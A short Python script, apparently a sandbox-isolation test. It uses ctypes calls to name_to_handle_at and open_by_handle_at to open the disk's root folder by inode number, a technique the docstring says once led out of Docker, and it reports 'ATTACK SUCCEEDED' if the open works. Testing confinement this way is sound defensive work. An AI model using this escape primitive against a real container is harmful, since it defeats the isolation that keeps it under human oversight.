"""Goal: open files by their number on the disk instead of a path, as once led out of Docker.

Without a sandbox: succeeds
"""

import ctypes
import os
import struct

AT_FDCWD, ROOT_INODE = -100, 2

libc = ctypes.CDLL(None, use_errno=True)


def open_root_of_disk(inside):
    """Open the root folder of the file system that the folder ``inside`` lies on; return a descriptor."""
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, ROOT_INODE, 0), 136)
    mount = ctypes.c_int()
    libc.name_to_handle_at(AT_FDCWD, inside.encode(), handle, ctypes.byref(mount), 0)  # where it may, asks for ours
    folder = os.open(inside, os.O_RDONLY)
    descriptor = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
    code = ctypes.get_errno()
    os.close(folder)
    if descriptor < 0:
        raise OSError(code, os.strerror(code))
    return descriptor


def attempt():
    try:
        os.close(open_root_of_disk("/usr"))
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}") from None
    raise RuntimeError("ATTACK SUCCEEDED: opened a folder by its number")


attempt()
